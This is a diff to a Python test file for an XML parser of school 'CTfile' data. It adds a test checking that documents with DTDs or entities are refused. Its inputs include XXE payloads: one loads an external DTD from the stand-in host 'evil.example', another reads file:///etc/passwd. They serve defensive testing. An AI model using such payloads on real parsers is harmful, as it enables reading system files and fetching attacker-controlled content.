@@ -271,6 +271,26 @@ def test_xml_bomb_is_refused_quickly(ctx: ParseContext) -> None:
     assert result.quarantined[0].problems[0].code == "xml_refused"
 
 
+@pytest.mark.parametrize(
+    ("doc", "code"),
+    [
+        (
+            b'<?xml version="1.0"?><!-- note --><!DOCTYPE CTfile SYSTEM "http://evil.example/x.dtd"><CTfile/>',
+            "xml_refused",
+        ),
+        (
+            b'<?xml version="1.0"?>\n<!DOCTYPE CTfile [<!ENTITY x SYSTEM "file:///etc/passwd">]><CTfile>&x;</CTfile>',
+            "xml_refused",
+        ),
+        (b"<CTfile>&undeclared;</CTfile>", "xml_unreadable"),
+        (b"<CTfile><!DOCTYPE late></CTfile>", "xml_unreadable"),
+    ],
+)
+def test_dtds_and_entities_are_refused_wherever_they_appear(doc: bytes, code: str, ctx: ParseContext) -> None:
+    result = parse_ctf(doc, "x.xml", ctx)
+    assert [p.code for p in result.quarantined[0].problems] == [code]
+
+
 def test_parse_is_deterministic_so_reruns_are_safe() -> None:
     data = fixture_bytes("schools", "3832999_CTF_3844001_001.xml")
     first = parse_ctf(data, "3832999_CTF_3844001_001.xml", ParseContext(today=date(2026, 1, 1)))
